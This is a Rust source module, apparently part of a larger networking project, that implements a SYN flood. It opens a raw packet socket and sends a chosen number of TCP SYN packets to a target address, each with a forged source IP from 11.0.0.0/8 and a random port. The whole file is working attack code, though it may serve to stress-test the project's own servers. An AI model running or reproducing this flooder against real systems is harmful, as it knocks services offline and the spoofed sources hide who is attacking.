//! Spoofed SYNs.

use super::packet_socket::PacketSocket;
use crate::frame;
use crate::servers::files::SplitMix;
use anyhow::{Context, Result, bail};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

/// Arguments.
#[derive(Debug, clap::Args)]
pub struct Args {
    /// Interface to send by.
    device: String,
    /// Where frames go, twelve hexadecimal digits.
    mac: String,
    /// Whom to flood.
    target: SocketAddr,
    /// How many.
    count: u64,
}

/// Sends them, from all over 11.0.0.0/8, and prints how many.
pub fn run(args: &Args) -> Result<()> {
    let socket = PacketSocket::open(&args.device)?;
    let mac = mac(&args.mac)?;
    if !args.target.is_ipv4() {
        bail!("only IPv4");
    }
    let mut numbers = SplitMix(1);
    for _ in 0..args.count {
        let number = numbers.next();
        let address = Ipv4Addr::from_bits((11 << 24) | (number as u32 & 0xff_ffff));
        let source = SocketAddr::new(IpAddr::V4(address), (number >> 32) as u16 | 1);
        let segment = frame::syn(source, args.target, (number >> 24) as u32);
        let packet = frame::packet(source.ip(), args.target.ip(), frame::TCP, None, &segment);
        socket.send(&frame::ethernet(mac, socket.mac(), &packet))?;
    }
    println!("{}", args.count);
    Ok(())
}

/// Twelve hexadecimal digits.
pub fn mac(text: &str) -> Result<[u8; 6]> {
    let number = u64::from_str_radix(text, 16).context("not an Ethernet address")?;
    let bytes = number.to_be_bytes();
    Ok([bytes[2], bytes[3], bytes[4], bytes[5], bytes[6], bytes[7]])
}
